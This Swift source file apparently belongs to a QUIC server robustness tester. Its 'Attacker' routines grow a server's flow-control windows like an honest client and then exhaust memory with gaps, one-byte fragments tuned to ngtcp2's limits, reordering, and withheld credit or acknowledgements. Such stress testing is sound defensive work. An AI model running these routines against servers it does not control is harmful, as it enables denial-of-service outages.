import DatagramIO
import Datagrams
import LoadModel
import PacketWriter
import QUICTransport

/// Attacks by clients that are fast and honest until the server has let their windows grow.
extension Attacker {
    /// Stream bytes in each packet, which is then nearly as large as the largest datagram a server reads.
    private static let pieceBytes = 1_350
    /// Below this many packets a second, even a busy server waits for what they may be good for.
    private static let packetsPerSecond = 8_000
    /// Bytes ngtcp2 allocates for a byte out of order.
    private static let chunkBytes = 8 * 1024
    private static let crumbsPerPacket = 100
    /// Fewer gaps than those at which ngtcp2 ends a connection: 5,000 a stream, 4,000 since 1.24 at the latest.
    private static let gapsPerStream = 3_500
    /// A path on which large windows are needed.
    private static let delay = Duration.milliseconds(250)
    private static let growthTimeout = Duration.seconds(15)
    private static let deliveryTimeout = Duration.seconds(15)
    private static let echoTimeout = Duration.seconds(15)
    /// An eighth of a window may be credit that the server has not given yet.
    private static let creditSteps = 8
    /// So many packets wait at the server, if it has no time for them, without being lost.
    private static let packetsInFlight = 64
    private static let lossTimeout = Duration.milliseconds(300)

    func leaveGapsInGrownWindow(onStreams count: Int) throws {
        var grown = try growWindows(onStreams: count)
        let pieces = grown.takeWindow(inPiecesOf: Self.pieceBytes).flatMap { pieces in
            pieces.enumerated().filter { !$0.offset.isMultiple(of: 2) }.map(\.element)
        }
        deliver(pieces.shuffled(), over: grown.connection)
        keepAlive(grown.connection, until: .noProgressTimeout)
    }

    func scatterCrumbsInGrownWindow() throws {
        var grown = try growWindows(onStreams: limits.streams)
        let chunks = grown.takeWindow(inPiecesOf: Self.chunkBytes).joined().filter { $0.count == Self.chunkBytes }
        // A byte of each chunk first, and then more gaps in all of them.
        let rounds = Self.gapsPerStream * limits.streams / max(1, chunks.count)
        var crumbs = (0..<rounds).lazy.flatMap { round in
            chunks.lazy.map { Frame.stream($0.stream, offset: $0.offset + UInt64(2 * round + 1), [1]) }
        }.makeIterator()
        pace(over: grown.connection) { count in
            for _ in 0..<count {
                let frames = (0..<Self.crumbsPerPacket).compactMap { _ in crumbs.next() }.flatMap(\.self)
                if frames.isEmpty { return false }
                grown.connection.send(frames)
            }
            return true
        }
        keepAlive(grown.connection, until: .noProgressTimeout)
    }

    func reorderGrownWindow() throws {
        var grown = try growWindows()
        let connection = grown.connection
        let pieces = grown.takeWindow(inPiecesOf: Self.pieceBytes).flatMap(\.self)
        guard let last = pieces.last else { throw Obstacle(description: "the server gave no credit") }
        let finalSize = last.offset + UInt64(last.count)
        deliver(pieces.reversed(), over: connection, finalSize: finalSize)
        let end = MonotonicInstant.now().advanced(by: Self.echoTimeout)
        while connection.heard.finalSizes[last.stream] != finalSize, !connection.isClosed {
            guard MonotonicInstant.now() < end else {
                throw Obstacle(description: "the echo of a reordered window was not whole within \(Self.echoTimeout)")
            }
            pause(.milliseconds(3), serving: connection)
            // RFC 9000 §4.1: credit for all of the echo, again and again, since packets may be lost.
            let credit = Frame.maximumData(1 << 40) + Frame.maximumStreamData(last.stream, 1 << 40)
            connection.send(connection.acknowledgement + credit)
        }
        close(connection)
    }

    func grantNothingAfterGrowth() throws {
        var grown = try growWindows()
        repeat {
            let pieces = grown.takeWindow(inPiecesOf: Self.pieceBytes).flatMap(\.self)
            if pieces.isEmpty { break }
            deliver(pieces, over: grown.connection)
            pause(.milliseconds(200), serving: grown.connection)
            grown.connection.send(grown.connection.acknowledgement)
            pause(.milliseconds(200), serving: grown.connection)
        } while !grown.connection.isClosed
        keepAlive(grown.connection, until: .noProgressTimeout)
    }

    func acknowledgeNothingAfterGrowth() throws {
        var grown = try growWindows()
        let connection = grown.connection
        // As much as is progress, so that nothing but its silence ends it; each byte four times, since packets may be lost.
        let progressBytes = limits.minimumProgressBytes + 10
        let pieces = grown.takeWindow(inPiecesOf: Self.pieceBytes, leaving: UInt64(100 * progressBytes)).flatMap(\.self)
        deliver(pieces, over: connection, acknowledges: false)
        var further = grown.takeWindow(inPiecesOf: progressBytes).joined().makeIterator()
        var recent: [GrownConnection.Piece] = []
        keep(connection, until: .acknowledgementTimeout, every: .seconds(min(1, limits.idleTimeoutSeconds / 4))) {
            recent = recent.suffix(3) + [further.next()].compactMap(\.self)
            connection.send(Frame.ping + recent.flatMap { $0.frame() })
        }
    }
}

// MARK: - Growing

extension Attacker {
    /// Sends and reads as an honest client on a long path until its window is as large as it gets, and takes its connection
    /// over when everything has come back.
    private func growWindows(onStreams count: Int = 1) throws -> GrownConnection {
        // More than a quarter of the windows of all streams, and less than the window lacks before it doubles the last time.
        let underWayBytes = limits.grownWindowBytes / 3
        let service = EagerService(underWayLimit: underWayBytes / count)
        let honest = try begin(service: service, delay: Self.delay) { transport in
            transport.streamWindow = .fixed(limits.grownWindowBytes)
            transport.connectionWindow = .fixed(limits.grownWindowBytes)
            transport.noProgressTimeout = nil
        }
        for _ in 0..<count { try service.begin(on: honest.connection.openStream()) }
        honest.touch()
        let wanted = UInt64(limits.grownWindowBytes - limits.grownWindowBytes / Self.creditSteps)
        honest.work(until: MonotonicInstant.now().advanced(by: Self.growthTimeout)) {
            let (heard, enough) = (honest.heard, service.receivedBytes + wanted)
            // The server gives credit for echoes acknowledged now a round trip later.
            let isGrown = heard.dataLimit + UInt64(underWayBytes) >= enough
            let streamCredit = heard.streamDataLimits.values.reduce(0, +) + (count == 1 ? UInt64(underWayBytes) : 0)
            return isGrown && streamCredit >= enough || honest.connection.state == .closed
        }
        service.stop()
        honest.work(until: MonotonicInstant.now().advanced(by: Self.growthTimeout)) { service.isAnswered }
        // The server's last credit is on its way.
        honest.work(until: MonotonicInstant.now().advanced(by: Self.delay * 2))
        let connection = try honest.handOver()
        let grown = GrownConnection(
            connection,
            offsets: service.sentBytes,
            streamWindowBytes: limits.streamWindowBytes
        )
        guard grown.windowBytes >= wanted / 2 else {
            throw Obstacle(description: "the window of a fast client grew to \(grown.windowBytes) bytes and no further")
        }
        return grown
    }
}

// MARK: - Sending

extension Attacker {
    /// Sends a packet for each piece until all of them have arrived, or the connection is closed.
    ///
    /// - Parameters:
    ///   - finalSize: Where the stream ends; nil where it does not.
    ///   - acknowledges: Whether the server's packets are acknowledged meanwhile.
    private func deliver(
        _ pieces: [GrownConnection.Piece],
        over connection: HostileConnection,
        finalSize: UInt64? = nil,
        acknowledges: Bool = true
    ) {
        var waiting = Array(pieces.reversed())
        var inFlight = PiecesInFlight()
        var latestProgress = MonotonicInstant.now()
        connection.onAcknowledge = { ranges in
            waiting += inFlight.acknowledge(ranges)
            latestProgress = .now()
        }
        defer { connection.onAcknowledge = { _ in } }
        pace(over: connection, acknowledges: acknowledges) { count in
            if latestProgress.duration(to: .now()) > Self.lossTimeout {
                waiting += inFlight.takeAll()
                latestProgress = .now()
            }
            for _ in 0..<min(count, Self.packetsInFlight - inFlight.count) {
                guard let piece = waiting.popLast() else { break }
                inFlight.add(piece, number: UInt64(connection.writer.nextPacketNumber))
                connection.send(piece.frame(finalSize: finalSize))
            }
            return !waiting.isEmpty || inFlight.count > 0
        }
    }

    /// Calls `send` with the number of packets that are due, over and over, until it says that there is nothing more, or the
    /// server has had more time for them than it may take.
    private func pace(over connection: HostileConnection, acknowledges: Bool = true, send: (Int) -> Bool) {
        var latest = MonotonicInstant.now()
        let end = latest.advanced(by: Self.deliveryTimeout)
        while latest < end, !connection.isClosed, !isGone(connection), !isCancelled() {
            pause(.milliseconds(1), serving: connection)
            let due = Int(latest.duration(to: .now()) / .seconds(1) * Double(Self.packetsPerSecond))
            latest = .now()
            guard send(min(due, Self.packetsInFlight / 2)) else { return }
            if acknowledges { connection.send(connection.acknowledgement) }
        }
    }
}

extension GrownConnection.Piece {
    /// Its STREAM frame, which ends its stream where that has `finalSize`.
    fileprivate func frame(finalSize: UInt64? = nil) -> [UInt8] {
        let bytes = [UInt8](repeating: 0x5a, count: count)
        return Frame.stream(stream, offset: offset, bytes, isFinal: finalSize == offset + UInt64(count))
    }
}
